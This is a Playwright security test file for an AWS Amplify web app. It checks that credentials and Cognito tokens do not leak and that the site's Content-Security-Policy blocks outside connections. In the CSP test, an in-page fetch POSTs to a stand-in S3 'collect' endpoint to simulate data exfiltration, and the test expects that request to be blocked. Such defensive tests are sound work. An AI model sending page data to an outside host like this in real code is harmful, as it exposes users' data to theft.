import type { Page, Request } from '@playwright/test';
import { AMPLIFY_BACKEND_REGIONS } from '../src/shared/config/regions';
import { expect, jobStatus, recordRequests, serveConfig, test } from './fixtures';
import { createUser, signInConfig, signInDialog, submitCredentials, test as signInTest } from './signInFixtures';
import { SIM_ORIGIN } from './simConfig';

// Only a browser proves it: what Amplify and the page leave in real storage, the console and outgoing requests over HTTP.
signInTest(
  'signed in: no AWS credentials or user pool tokens leak to the URL, the console, storage or a non-AWS host',
  async ({ page, sim, request }, testInfo) => {
    signInTest.setTimeout(120_000);
    const logs: string[] = [];
    page.on('console', (message) => logs.push(message.text()));
    const secrets = recordSecrets(page);
    await serveConfig(page, signInConfig());
    const user = await createUser(request, testInfo.workerIndex);
    const job = await sim.createJob();
    await page.goto(job.path);
    await expect(signInDialog(page)).toBeVisible();
    await submitCredentials(page, user);
    await expect(jobStatus(page)).toContainText('RUNNING');
    await page.reload();
    await expect(jobStatus(page)).toContainText('RUNNING');

    expect(secrets.aws.length).toBeGreaterThanOrEqual(2);
    expect(secrets.userPool.length).toBeGreaterThanOrEqual(3);
    // AWS credentials live in memory only; the user pool's tokens in this tab's sessionStorage (tokenStorage "session"), nowhere else.
    await expectNowhere(page, secrets, secrets.aws, logs, { sessionStorage: true });
    await expectNowhere(page, secrets, secrets.userPool, logs, { sessionStorage: false });
    expect(logs.join('\n')).not.toContain(user.password);
  },
);

interface Secrets {
  /** Secret access keys and session tokens from GetCredentialsForIdentity. */
  aws: string[];
  /** Access, ID and refresh tokens from the user pool. */
  userPool: string[];
  /** Every request the page sent, to check where the values went. */
  requests: Request[];
}

/** Collects the secret values the simulated AWS hands the page, read off its answers. */
function recordSecrets(page: Page): Secrets {
  const secrets: Secrets = { aws: [], userPool: [], requests: recordRequests(page).all };
  page.on('response', (response) => {
    const target = response.request().headers()['x-amz-target'] ?? '';
    if (new URL(response.url()).origin !== SIM_ORIGIN || !target) return;
    void response
      .json()
      .then((body: { Credentials?: Record<string, string>; AuthenticationResult?: Record<string, string> }) => {
        const credentials = body.Credentials;
        if (credentials?.SecretKey) secrets.aws.push(credentials.SecretKey);
        if (credentials?.SessionToken) secrets.aws.push(credentials.SessionToken);
        const tokens = body.AuthenticationResult;
        for (const key of ['AccessToken', 'IdToken', 'RefreshToken']) if (tokens?.[key]) secrets.userPool.push(tokens[key]);
      })
      .catch(() => undefined);
  });
  return secrets;
}

/**
 * None of `values` in the URL, the console, localStorage (and sessionStorage unless the value may
 * live there), or anything sent anywhere but the simulated AWS: URLs, headers and bodies.
 */
async function expectNowhere(
  page: Page,
  secrets: Secrets,
  values: string[],
  logs: string[],
  where: { sessionStorage: boolean },
): Promise<void> {
  const places: [string, string][] = [
    ['the URL', page.url()],
    ['the console', logs.join('\n')],
    ['localStorage', await page.evaluate(() => JSON.stringify({ ...window.localStorage }))],
  ];
  if (where.sessionStorage) {
    places.push(['sessionStorage', await page.evaluate(() => JSON.stringify({ ...window.sessionStorage }))]);
  }
  for (const request of secrets.requests) {
    if (new URL(request.url()).origin === SIM_ORIGIN) continue;
    places.push([
      `a request to ${request.url()}`,
      `${request.url()} ${JSON.stringify(request.headers())} ${request.postData() ?? ''}`,
    ]);
  }
  for (const value of values) {
    for (const [place, text] of places) expect(text.includes(value), `a secret value in ${place}`).toBe(false);
  }
}

test.describe('the policy the site is served with', () => {
  // Only a browser proves it: the production build's headers as served, and Chromium enforcing its CSP on a script in the page.
  test('CSP: scripts from the site only, no framing, connections only to the listed AWS hosts (Amplify Hosting’s among them); no source map references', async ({
    page,
    request,
  }) => {
    const response = await page.goto('/');
    const header = response?.headers()['content-security-policy'] ?? '';
    const directives = new Map(header.split('; ').map((part) => [part.split(' ')[0], part.split(' ').slice(1)] as const));
    expect(directives.get('script-src')).toEqual(["'self'"]);
    expect(directives.get('frame-ancestors')).toEqual(["'none'"]);
    expect(header).not.toContain('unsafe-');
    const connect = directives.get('connect-src') ?? [];
    expect(connect).toContain('https://amplifybackend.eu-west-1.amazonaws.com');
    expect(connect).toContain('https://cognito-identity.us-east-1.amazonaws.com');
    expect(connect).toContain('https://cognito-idp.ap-southeast-2.amazonaws.com');
    // Amplify Hosting (GetJob, ListJobs) in every supported region, each host by name.
    expect(connect).toEqual(
      expect.arrayContaining(AMPLIFY_BACKEND_REGIONS.map((region) => `https://amplify.${region}.amazonaws.com`)),
    );
    expect(connect).not.toContain('https://*.amazonaws.com');
    expect(connect.filter((source) => source.includes('*'))).toEqual([]);
    expect(response?.headers()['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
    // The page carries the same policy as a meta element (minus frame-ancestors, which only a header can carry).
    const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(meta).toBe(header.replace("; frame-ancestors 'none'", ''));

    // Someone's S3 bucket is not reachable, even by a script running in the page.
    let reached = 0;
    await page.route('https://bucket.s3.amazonaws.com/**', (route) => {
      reached += 1;
      return route.fulfill({ status: 200, body: 'stolen' });
    });
    const outcome = await page.evaluate(() =>
      fetch('https://bucket.s3.amazonaws.com/collect', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(outcome).toBe('blocked');
    expect(reached).toBe(0);

    // Source maps are written but not referenced from the bundles.
    for (const src of await page
      .locator('script[src]')
      .evaluateAll((scripts) => scripts.map((s) => (s as HTMLScriptElement).src))) {
      const body = await (await request.get(src)).text();
      expect(body, src).not.toContain('sourceMappingURL');
      expect((await request.get(`${src}.map`)).status(), `${src}.map`).toBe(200);
    }
  });
});
